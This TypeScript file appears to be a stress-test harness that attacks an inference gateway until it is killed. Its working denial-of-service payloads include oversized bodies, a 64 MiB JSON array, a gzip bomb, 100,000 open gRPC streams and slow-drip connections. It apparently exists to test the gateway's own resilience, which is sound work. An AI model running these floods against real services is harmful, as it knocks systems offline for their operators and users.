import { connect as connectHttp2, type ClientHttp2Session } from 'node:http2';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';

/*
 * Attacks a gateway until it is killed: `attacker.mts <name> <url> <host:port of gRPC>`. Runs in a separate process, so
 * that its resource usage is not attributed to the gateway.
 */
const MIB = 2 ** 20;
const MODEL_INFER = {
  ':method': 'POST',
  ':path': '/inference.GRPCInferenceService/ModelInfer',
  'content-type': 'application/grpc',
  te: 'trailers',
};
const [name = '', url = '', grpc = ''] = process.argv.slice(2);

/** Each function starts an attack, which continues until this process is killed. */
const ATTACKS: Readonly<Record<string, () => void>> = {
  none: () => {},
  bodies: () => times(60, () => post(64 * MIB, ['inference-header-content-length: 0'], 64 * MIB - 1)),
  json: () => {
    const body = Buffer.alloc(64 * MIB, '1,');
    body.write('{"inputs":[{"name":"x","datatype":"FP32","shape":[1,2],"data":[');
    body.write('1]}]}', body.length - 5);
    times(20, () => post(body.length, [], body));
  },
  gzip: () => {
    const bomb = gzipSync(Buffer.alloc(64 * MIB, ' '));
    times(40, () => post(bomb.length, ['content-encoding: gzip'], bomb));
  },
  answers: () => times(60, () => post(32 * MIB, ['inference-header-content-length: 0'], 32 * MIB)),
  calls: () => {
    const session = dial();
    times(100_000, () => session.request(MODEL_INFER, { endStream: false }).on('error', () => {}));
  },
  drip: () => {
    const session = dial();
    times(2000, () => {
      const stream = session.request(MODEL_INFER, { endStream: false }).on('error', () => {});
      stream.write(Buffer.from([0, 0, 1, 0, 0]));
      const drip = setInterval(
        () => (stream.writable ? stream.write(' ') : clearInterval(drip)),
        200,
      ).unref();
      stream.on('close', () => clearInterval(drip));
    });
  },
};

const ZEROS = Buffer.alloc(MIB);

/** Sends a request over a new connection without reading the response. If `body` is a number, sends that many zeros. */
function post(length: number, headers: string[], body: Buffer | number): void {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname).on('error', () => {});
  const lines = ['POST /v2/models/affine/infer HTTP/1.1', 'host: a', `content-length: ${length}`, ...headers];
  socket.write(`${lines.join('\r\n')}\r\n\r\n`);
  if (typeof body !== 'number') {
    socket.write(body);
    return;
  }
  let left = body;
  const more = () => {
    while (left > 0 && socket.writable) {
      const piece = ZEROS.subarray(0, left);
      left -= piece.length;
      if (!socket.write(piece)) return;
    }
  };
  socket.on('drain', more);
  more();
}

function dial(): ClientHttp2Session {
  const session = connectHttp2(`http://${grpc}`);
  session.on('error', () => {});
  return session;
}

function times(count: number, work: () => void): void {
  for (let index = 0; index < count; index++) work();
}

ATTACKS[name]!();
